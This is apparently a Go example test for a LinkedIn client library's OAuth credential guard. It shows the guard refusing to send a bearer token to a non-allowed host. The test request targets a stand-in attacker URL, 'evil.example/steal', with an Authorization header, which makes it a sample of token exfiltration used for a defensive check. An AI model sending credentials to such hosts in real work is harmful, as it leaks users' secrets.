// Example of the credential guard.

package oauth_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"

	"github.com/linkedin-go/linkedin/oauth"
	"github.com/linkedin-go/linkedin/restli"
)

func ExampleGuard() {
	// A per-call token may go to the allowed hosts only, over https.
	client := &http.Client{Transport: oauth.Guard(oauth.MiddlewareOptions{AllowHosts: []string{"api.linkedin.com"}})(http.DefaultTransport)}
	req, _ := http.NewRequestWithContext(context.Background(), http.MethodGet, "https://evil.example/steal", nil)
	req.Header.Set("Authorization", "Bearer per-call-token")
	_, err := client.Do(req)
	fmt.Println(errors.Is(err, oauth.ErrHostNotAllowed), errors.Is(err, restli.ErrNotSent))
	// Output: true true
}
